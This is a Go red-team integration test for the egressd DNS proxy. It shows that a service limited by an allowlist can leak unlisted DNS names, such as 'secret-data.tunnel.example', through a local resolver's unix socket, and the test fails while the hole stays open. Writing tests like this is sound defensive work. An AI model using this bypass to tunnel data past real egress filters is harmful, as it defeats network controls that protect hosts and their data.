//go:build linux && redteam

package integration

// Red-team findings on the DNS proxy that are still open (see
// redteam_dns_test.go for the closed ones). Each test FAILS while the hole
// is open:
//
//	go test -tags redteam ./integration -run TestRedteamDNS -count=1 -v

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/egressd/egressd/internal/dnstest"
)

// ---------------------------------------------------------------------------
// D9. A local resolver reached over a unix socket. The redirect sees IP
// packets to port 53; systemd-resolved's varlink socket
// (/run/systemd/resolve/io.systemd.Resolve) and D-Bus API
// (org.freedesktop.resolve1), and nscd's socket (/var/run/nscd/socket),
// take a name from any local process and resolve it as their own
// (unrestricted) user: a protected service with nss-resolve or nscd in
// nsswitch.conf — the default on many hosts — asks them for names its
// allowlist does not list, and the question leaves the host. (The stub on
// 127.0.0.53:53 is redirected like any port-53 query.) Needs such a
// daemon on the host; here root plays it with a one-line protocol on a
// socket anyone may connect to, as resolved's and nscd's are. Not a
// kernel matter: `egressd harden --allowlist` hides /run/systemd/resolve
// and /run/nscd from a dns: proxy service (proved in the real-systemd
// tier); resolved's D-Bus API (org.freedesktop.resolve1 on the system bus)
// stays open to it.
func TestRedteamDNSLocalResolverSocket(t *testing.T) {
	w := newWorld(t)
	w.write("egressd.yaml", proxyMain)
	w.write("allow.d/billing.yaml", fmt.Sprintf("user: %d\ndns: proxy\nallow:\n  - api.example.test:443\n", uidA))
	w.dns.Set("*.tunnel.example", dnstest.Record{A: addrs("198.51.100.20"), TTL: 60})
	sock := filepath.Join(w.dir, "resolve.sock")
	var ln net.Listener
	w.must(w.ns.Do(func() error {
		var err error
		ln, err = net.Listen("unix", sock)
		return err
	}))
	t.Cleanup(func() { ln.Close() })
	w.must(os.Chmod(sock, 0o666))
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				name, err := bufio.NewReader(c).ReadString('\n')
				if err != nil {
					return
				}
				var answer string
				w.ns.Do(func() error { //nolint:errcheck
					r, _, err := (&dns.Client{Timeout: time.Second}).Exchange(question(dns.Fqdn(strings.TrimSpace(name)), dns.TypeA), "192.0.2.53:53")
					if err == nil && len(r.Answer) > 0 {
						answer = r.Answer[0].String()
					}
					return nil
				})
				fmt.Fprintln(c, answer)
			}()
		}
	}()
	w.start()
	// Control: the same name over DNS is refused.
	if m, _, err := w.exchangeAs(uidA, "udp", 0, "127.0.0.53:53", question("ctl.tunnel.example.", dns.TypeA)); err != nil || m.Rcode != dns.RcodeRefused {
		t.Fatalf("control: the unlisted name over DNS: %s", rcodeOf(m, err))
	}
	var got string
	w.must(w.ns.Do(func() error {
		if _, err := unix.SetfsuidRetUid(uidA); err != nil {
			return err
		}
		defer unix.SetfsuidRetUid(0) //nolint:errcheck
		c, err := net.Dial("unix", sock)
		if err != nil {
			return err
		}
		defer c.Close()
		fmt.Fprintln(c, "secret-data.tunnel.example")
		got, _ = bufio.NewReader(c).ReadString('\n')
		return nil
	}))
	t.Logf("billing asked the local resolver's socket: %q", strings.TrimSpace(got))
	if n := w.dns.QueriesFor("secret-data.tunnel.example."); n > 0 {
		t.Errorf("a name billing's allowlist does not list reached the resolver through a local resolver's unix socket (%d)", n)
	}
}
